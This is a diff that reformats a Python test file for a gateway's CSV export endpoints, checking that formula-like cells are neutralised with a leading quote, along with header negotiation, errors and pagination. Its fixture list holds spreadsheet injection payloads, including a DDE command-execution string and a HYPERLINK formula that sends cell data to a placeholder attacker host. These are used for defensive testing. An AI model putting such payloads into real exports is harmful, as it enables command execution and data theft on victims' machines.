@@ -13,10 +13,47 @@ from gatewayz.web.api.export import PAGE_ROWS, cell, lines
 from tests.support.control import ANSWER_S, place
 
 INJECTIONS = [
-    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "--1", "-", "+", "@",
-    "=", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "-2+3+cmd|' /C calc'!D2", "=\"a\"\"b\"", "+49 30 1234", "-1e5", "-1,5",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "--1",
+    "-",
+    "+",
+    "@",
+    "=",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff201",
+    "-2+3+cmd|' /C calc'!D2",
+    '="a""b"',
+    "+49 30 1234",
+    "-1e5",
+    "-1,5",
 ]
-PLAIN = ["", "eve", "a,b", "a;b", "say \"no\"", "two\r\nlines", "'quoted", "caf\u00e9 \u4e2d\u6587", "1", "-1", "12.5", "-0.000000001", " =not a formula at its beginning", "a=b", "x\x0by"]
+PLAIN = [
+    "",
+    "eve",
+    "a,b",
+    "a;b",
+    'say "no"',
+    "two\r\nlines",
+    "'quoted",
+    "caf\u00e9 \u4e2d\u6587",
+    "1",
+    "-1",
+    "12.5",
+    "-0.000000001",
+    " =not a formula at its beginning",
+    "a=b",
+    "x\x0by",
+]
 
 
 @pytest.fixture
@@ -39,23 +76,48 @@ async def file_of(caller, path, status=200, accept="text/csv"):
 @pytest.mark.parametrize("text", INJECTIONS)
 def test_no_cell_is_a_formula(text):
     assert cell(text) == f"'{text}"
-    assert next(csv.reader(io.StringIO(lines([[cell(text), "x"]]), newline=""), strict=True)) == [f"'{text}", "x"]
+    assert next(csv.reader(io.StringIO(lines([[cell(text), "x"]]), newline=""), strict=True)) == [
+        f"'{text}",
+        "x",
+    ]
 
 
 @pytest.mark.parametrize("text", PLAIN)
 def test_what_is_no_formula_stays_as_it_is_and_so_do_numbers(text):
-    assert next(csv.reader(io.StringIO(lines([["x", cell(text)]]), newline=""), strict=True)) == ["x", text]
+    assert next(csv.reader(io.StringIO(lines([["x", cell(text)]]), newline=""), strict=True)) == [
+        "x",
+        text,
+    ]
 
 
-@pytest.mark.parametrize(("text", "written"), [
-    ("1;=2", "1;'=2"), ("a\t@b", "a\t'@b"), ("a\n+b", "a\n'+b"), ('a;"=b', 'a;"\'=b'), ("=a;=b", "'=a;'=b"), ("=1\r\n=2", "'=1\r\n'=2"), ("a;b", "a;b"), ("a,=b", "a,=b"),
-])
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("1;=2", "1;'=2"),
+        ("a\t@b", "a\t'@b"),
+        ("a\n+b", "a\n'+b"),
+        ('a;"=b', "a;\"'=b"),
+        ("=a;=b", "'=a;'=b"),
+        ("=1\r\n=2", "'=1\r\n'=2"),
+        ("a;b", "a;b"),
+        ("a,=b", "a,=b"),
+    ],
+)
 def test_nor_does_a_formula_begin_where_another_spreadsheet_would_end_a_cell(text, written):
     assert cell(text) == written
 
 
 def test_values_that_are_no_texts():
-    assert [cell(value) for value in (None, True, False, -5, 0, ["a", "b"], [], ["=a"])] == ["", "true", "false", "-5", "0", "a,b", "", "'=a"]
+    assert [cell(value) for value in (None, True, False, -5, 0, ["a", "b"], [], ["=a"])] == [
+        "",
+        "true",
+        "false",
+        "-5",
+        "0",
+        "a,b",
+        "",
+        "'=a",
+    ]
 
 
 def shown_as(row):
@@ -64,47 +126,85 @@ def shown_as(row):
 
 async def test_calls_transactions_and_usage_are_files_for_whoever_asks_for_one(there):
     admin = await there.key("acme", "inference", "account")
-    for number, user in enumerate(("eve", "=1+1", "a,\"b\"")):
-        assert (await admin.calls(user=user, headers={"X_Gatewayz_Tags": "team-a,=tag"} if number else {})).status == 200
-    for path, admins, name in (("/v1/calls", "/admin/calls?account=acme", "calls"), ("/v1/account/transactions", "/admin/transactions?account=acme", "transactions"),
-                               ("/v1/account/usage?by=end_user", "/admin/usage?by=end_user&account=acme", "usage")):
+    for number, user in enumerate(("eve", "=1+1", 'a,"b"')):
+        assert (
+            await admin.calls(
+                user=user, headers={"X_Gatewayz_Tags": "team-a,=tag"} if number else {}
+            )
+        ).status == 200
+    for path, admins, name in (
+        ("/v1/calls", "/admin/calls?account=acme", "calls"),
+        ("/v1/account/transactions", "/admin/transactions?account=acme", "transactions"),
+        ("/v1/account/usage?by=end_user", "/admin/usage?by=end_user&account=acme", "usage"),
+    ):
         listed = (await admin.get(path))["data"]
         for caller, where in ((admin, path), (there.operator, admins)):
             answer = await file_of(caller, where)
             assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
             assert answer.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
-            assert (answer.headers["x-content-type-options"], answer.headers["cache-control"]) == ("nosniff", "no-store")
+            assert (answer.headers["x-content-type-options"], answer.headers["cache-control"]) == (
+                "nosniff",
+                "no-store",
+            )
             assert read(answer.text) == [shown_as(row) for row in listed]
             assert answer.text.endswith("\r\n")
     exported = read((await file_of(admin, "/v1/calls")).text)
-    assert [row["end_user"] for row in exported] == ["a,\"b\"", "'=1+1", "eve"]
-    assert [int(row["cost_nanos"]) for row in exported] == [row["cost_nanos"] for row in (await admin.get("/v1/calls"))["data"]]
+    assert [row["end_user"] for row in exported] == ['a,"b"', "'=1+1", "eve"]
+    assert [int(row["cost_nanos"]) for row in exported] == [
+        row["cost_nanos"] for row in (await admin.get("/v1/calls"))["data"]
+    ]
     assert {row["tags"] for row in exported} == {"team-a,=tag", ""}
 
 
 async def test_one_rule_says_who_gets_a_file(there):
     admin = await there.key("acme", "account")
     for accept in ("text/csv", "TEXT/CSV;q=0.9, application/json", "application/json, text/csv"):
-        assert (await file_of(admin, "/v1/calls", accept=accept)).headers["content-type"].startswith("text/csv")
+        assert (
+            (await file_of(admin, "/v1/calls", accept=accept))
+            .headers["content-type"]
+            .startswith("text/csv")
+        )
     for accept in ("*/*", "application/json", "text/*", "text/csvx"):
-        assert (await file_of(admin, "/v1/calls", accept=accept)).headers["content-type"] == "application/json"
+        assert (await file_of(admin, "/v1/calls", accept=accept)).headers[
+            "content-type"
+        ] == "application/json"
     assert (await file_of(admin, "/v1/account")).headers["content-type"] == "application/json"
-    assert "query field 'format'" in (await admin.get("/v1/calls?format=csv", status=400))["error"]["message"]
+    assert (
+        "query field 'format'"
+        in (await admin.get("/v1/calls?format=csv", status=400))["error"]["message"]
+    )
 
 
 async def test_what_is_refused_is_refused_in_json(there):
     admin, poor = await there.key("acme", "account"), await there.key("acme", "inference")
-    for path in ("/v1/account/transactions?after=nonsense", "/v1/calls?failed=perhaps", "/v1/account/usage?by=colour", "/v1/account/usage?from_ms=5&until_ms=5"):
+    for path in (
+        "/v1/account/transactions?after=nonsense",
+        "/v1/calls?failed=perhaps",
+        "/v1/account/usage?by=colour",
+        "/v1/account/usage?from_ms=5&until_ms=5",
+    ):
         assert set((await file_of(admin, path, status=400)).json()) == {"error"}
     assert set((await file_of(poor, "/v1/account/transactions", status=403)).json()) == {"error"}
 
 
 async def many_calls(there, count):
-    columns = {"account_id": "acme", "key_id": "key", "endpoint": "/v1/chat/completions", "status": 200, "end_user": "x" * 200}
+    columns = {
+        "account_id": "acme",
+        "key_id": "key",
+        "endpoint": "/v1/chat/completions",
+        "status": 200,
+        "end_user": "x" * 200,
+    }
     ids = sorted(new_ulid() for _ in range(count))
     async with there.desk.database.begin() as connection:
         for start in range(0, count, 500):
-            await connection.execute(insert(CALLS), [{**columns, "id": id, "received_ms": number} for number, id in enumerate(ids[start:start + 500], start)])
+            await connection.execute(
+                insert(CALLS),
+                [
+                    {**columns, "id": id, "received_ms": number}
+                    for number, id in enumerate(ids[start : start + 500], start)
+                ],
+            )
     return ids[::-1]
 
 
@@ -112,13 +212,18 @@ async def test_an_export_is_whole_whatever_the_pages_and_begins_at_its_cursor(th
     admin = await there.key("acme", "account")
     ids = await many_calls(there, 2 * PAGE_ROWS + 17)
     assert [row["id"] for row in read((await file_of(admin, "/v1/calls?limit=10")).text)] == ids
-    assert [row["id"] for row in read((await file_of(admin, f"/v1/calls?after={ids[1_500]}&failed=false")).text)] == ids[1_501:]
+    assert [
+        row["id"]
+        for row in read((await file_of(admin, f"/v1/calls?after={ids[1_500]}&failed=false")).text)
+    ] == ids[1_501:]
     assert read((await file_of(admin, "/v1/calls?model=none")).text) == []
 
 
 async def slowly(there, caller):
     """Asks for all calls and reads nothing but the head."""
-    reader, writer = await asyncio.open_connection(there.client.host, there.client.port, limit=1_024)
+    reader, writer = await asyncio.open_connection(
+        there.client.host, there.client.port, limit=1_024
+    )
     head = f"GET /v1/calls HTTP/1.1\r\nHost: 127.0.0.1:{there.client.port}\r\nAuthorization: Bearer {caller.key}\r\nAccept: text/csv\r\n\r\n"
     writer.write(head.encode())
     async with asyncio.timeout(ANSWER_S):
